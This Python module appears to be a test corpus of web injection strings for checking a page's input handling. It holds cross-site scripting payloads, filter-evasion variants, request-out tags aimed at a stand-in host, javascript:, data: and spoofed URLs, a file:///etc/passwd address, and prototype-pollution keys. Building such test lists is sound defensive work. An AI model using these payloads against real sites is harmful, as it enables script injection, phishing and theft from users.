"""Attacks on a page: what strangers may write to get a script to run, an element in, or a request out."""

RUN = "window.ran=1"
ELSEWHERE = "//elsewhere.invalid/x"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"'\"><script>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<script\x00>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
]

HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<p style='animation-name:come' onanimationstart={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' '",
    f"` onmouseover=`{RUN}`",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
]

REQUESTS = [
    f"<img src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=dns-prefetch href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"<p style='background:url({ELSEWHERE})'>",
    f"<iframe src={ELSEWHERE}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><input name=q><button autofocus>",
    "<form id=register><input name=name>",
    f"<a href={ELSEWHERE} ping={ELSEWHERE}>click</a>",
    f"![x](http:{ELSEWHERE})",
]

ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://http://example.org/%0a{RUN}",
    f"http://javascript:{RUN}@h.invalid/",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    f"blob:http://127.0.0.1/{RUN}",
    f'http://h.invalid/" onclick="{RUN}',
    f"http://h.invalid/'onclick='{RUN}",
    f'http://h.invalid/"><img src=x onerror={RUN}>',
    "http://bank.example@h.invalid/",
    "https://b\u0430nk.example/",
    "https://bank.example\u2024evil.invalid/",
    "http://h.invalid/\u202egnp.exe",
    "http://[::1",
    "http://%00/",
    "http://h.invalid:99999/",
    "http://" + "a" * 3000,
    "https://h.invalid/" + "(" * 2000,
    "https://h.invalid/" + "." * 3900,
    "http://" * 500,
]

WORDS = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "register",
    "in-room",
    "document.cookie",
    '{"type":"delete-room","room":"ops"}',
    "null",
    "[object Object]",
    "<bdi>\u202e</bdi>",
    "<!-- lab -->",
    "\u2066\u2067" * 500,
    "a\u0301" * 1900,
    "\n" * 3999 + "end",
    "W" * 4000,
]

INJECTIONS = [*SCRIPTS, *HANDLERS, *REQUESTS, *ADDRESSES, *WORDS]
